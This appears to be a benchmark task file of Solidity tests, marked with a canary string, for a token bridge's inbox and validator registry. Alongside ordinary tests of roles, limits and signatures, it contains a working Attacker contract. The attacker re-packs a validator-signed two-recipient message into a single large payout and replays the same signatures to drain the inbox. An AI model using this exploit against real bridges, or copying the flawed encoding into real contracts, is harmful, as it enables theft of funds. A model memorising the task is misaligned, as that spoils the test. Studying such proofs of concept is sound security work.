// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./BridgeInbox.sol";
import {ValidatorRegistry} from "./context/ValidatorRegistry.sol";

// assay-canary-fdc389c4-8355-4a3f-8780-868c208e7c9a

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Usdt is ERC20("Bridged dollar", "USDT") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Usdt internal usdt;
    ValidatorRegistry internal registry;
    BridgeInbox internal inbox;
    Attacker internal mallory;
    uint256[] internal keys;

    function setUp() public {
        usdt = new Usdt();
        keys = [uint256(11), 12, 13, 14];
        // in the order of their addresses
        for (uint256 i = 0; i < keys.length; i++) {
            for (uint256 j = i + 1; j < keys.length; j++) {
                if (vm.addr(keys[j]) < vm.addr(keys[i])) (keys[i], keys[j]) = (keys[j], keys[i]);
            }
        }
        address[] memory validators = new address[](3);
        for (uint256 i = 0; i < 3; i++) validators[i] = vm.addr(keys[i]);
        registry = new ValidatorRegistry(address(this), 2, validators);
        inbox = new BridgeInbox(address(this), registry);
        inbox.setLimit(address(usdt), 60_000e18);
        usdt.mint(address(inbox), 55_000e18);

        mallory = new Attacker(inbox);
        BridgeInbox.Message memory own = message(7, address(mallory), 1, address(uint160(50_000e18)), 1);
        own.memo = "";
        mallory.keep(own, signed(own, 2));
    }

    function message(uint64 nonce, address a, uint256 x, address b, uint256 y)
        internal
        view
        returns (BridgeInbox.Message memory m)
    {
        address[] memory to = new address[](2);
        uint256[] memory amounts = new uint256[](2);
        (to[0], to[1], amounts[0], amounts[1]) = (a, b, x, y);
        return BridgeInbox.Message(10, nonce, address(usdt), to, amounts, "rent");
    }

    function sign(uint256 key, bytes32 digest) internal returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, digest);
        return abi.encodePacked(r, s, v);
    }

    function signed(BridgeInbox.Message memory m, uint256 count) internal returns (bytes[] memory signatures) {
        bytes32 digest = inbox.digestOf(m);
        signatures = new bytes[](count);
        for (uint256 i = 0; i < count; i++) signatures[i] = sign(keys[i], digest);
    }

    function test_Regular() public {
        BridgeInbox.Message memory m = message(1, ANA, 100e18, BEN, 20e18);
        inbox.deliver(m, signed(m, 2));
        require(usdt.balanceOf(ANA) == 100e18 && usdt.balanceOf(BEN) == 20e18, "paid");
        require(inbox.isDelivered(10, 1) && !inbox.isDelivered(10, 2), "delivered");
        m.nonce = 2;
        inbox.deliver(m, signed(m, 3));
        require(usdt.balanceOf(ANA) == 200e18 && usdt.balanceOf(address(inbox)) == 54_760e18, "paid again");

        inbox.pause();
        inbox.unpause();
        inbox.setLimit(address(usdt), 1);
        bytes32 role = inbox.PAUSER_ROLE();
        inbox.grantRole(role, ANA);
        inbox.revokeRole(role, ANA);
        inbox.renounceRole(role, address(this));
        role = registry.VALIDATOR_ROLE();
        registry.grantRole(role, ANA);
        registry.revokeRole(role, ANA);
        registry.renounceRole(registry.DEFAULT_ADMIN_ROLE(), address(this));
        require(!inbox.hasRole(inbox.PAUSER_ROLE(), address(this)), "gone");
    }

    function denies(address who, bytes32 role) internal {
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
    }

    function test_RefusesStrangers() public {
        (bytes32 pauser, bytes32 limits) = (inbox.PAUSER_ROLE(), inbox.LIMITS_ROLE());
        inbox.grantRole(pauser, ANA);
        vm.startPrank(ANA);
        denies(ANA, limits);
        inbox.setLimit(address(usdt), 0);
        inbox.pause();
        vm.stopPrank();
        vm.startPrank(BEN);
        denies(BEN, pauser);
        inbox.unpause();
        vm.stopPrank();
        inbox.unpause();
        vm.prank(BEN);
        denies(BEN, pauser);
        inbox.pause();
    }

    function test_RefusesMessages() public {
        BridgeInbox.Message memory m = message(1, ANA, 60_000e18, BEN, 1);
        bytes[] memory s = signed(m, 2);
        vm.expectRevert("BridgeInbox: above limit");
        inbox.deliver(m, s);
        m = message(1, ANA, 2, BEN, 1);
        s = signed(m, 2);
        inbox.pause();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        inbox.deliver(m, s);
        inbox.unpause();
        inbox.deliver(m, s);
        vm.expectRevert("BridgeInbox: already delivered");
        inbox.deliver(m, s);
        m.nonce = 2;
        m.recipients = new address[](1);
        m.recipients[0] = ANA;
        s = signed(m, 2);
        vm.expectRevert("BridgeInbox: lengths differ");
        inbox.deliver(m, s);
    }

    function test_RefusesAttestations() public {
        BridgeInbox.Message memory m = message(1, ANA, 2, BEN, 1);
        bytes[] memory s = signed(m, 1);
        vm.expectRevert("ValidatorRegistry: too few signatures");
        inbox.deliver(m, s);
        s = signed(m, 2);
        s[0] = s[1];
        vm.expectRevert("ValidatorRegistry: not in order");
        inbox.deliver(m, s);
        s[1] = sign(keys[3], inbox.digestOf(m));
        vm.expectRevert("ValidatorRegistry: not a validator");
        inbox.deliver(m, s);
        s = signed(m, 2);
        m.amounts[0] = 3;
        (bool done, ) = address(inbox).call(abi.encodeCall(inbox.deliver, (m, s)));
        require(!done && !inbox.isDelivered(10, 1), "another amount than was signed");
    }

    function test_RefusesRegistries() public {
        vm.expectRevert("ValidatorRegistry: zero threshold");
        new ValidatorRegistry(address(this), 0, new address[](1));
        vm.expectRevert("ValidatorRegistry: too few validators");
        new ValidatorRegistry(address(this), 2, new address[](1));
        new ValidatorRegistry(address(this), 1, new address[](1));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usdt.balanceOf(address(mallory)) >= 50_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(usdt);
    }

    function target() public view returns (address) {
        return address(inbox);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    BridgeInbox internal inbox;
    BridgeInbox.Message internal own;
    bytes[] internal signatures;

    constructor(BridgeInbox inbox_) {
        inbox = inbox_;
    }

    /// What the outbox recorded, and the validators signed.
    function keep(BridgeInbox.Message memory own_, bytes[] memory signatures_) external {
        require(signatures.length == 0, "kept");
        own = own_;
        signatures = signatures_;
    }

    function run() external {
        BridgeInbox.Message memory other = own;
        other.memo = abi.encode(own.amounts[0], own.amounts[1]);
        other.recipients = new address[](1);
        other.recipients[0] = own.recipients[0];
        other.amounts = new uint256[](1);
        other.amounts[0] = uint256(uint160(own.recipients[1]));
        inbox.deliver(other, signatures);
    }
}
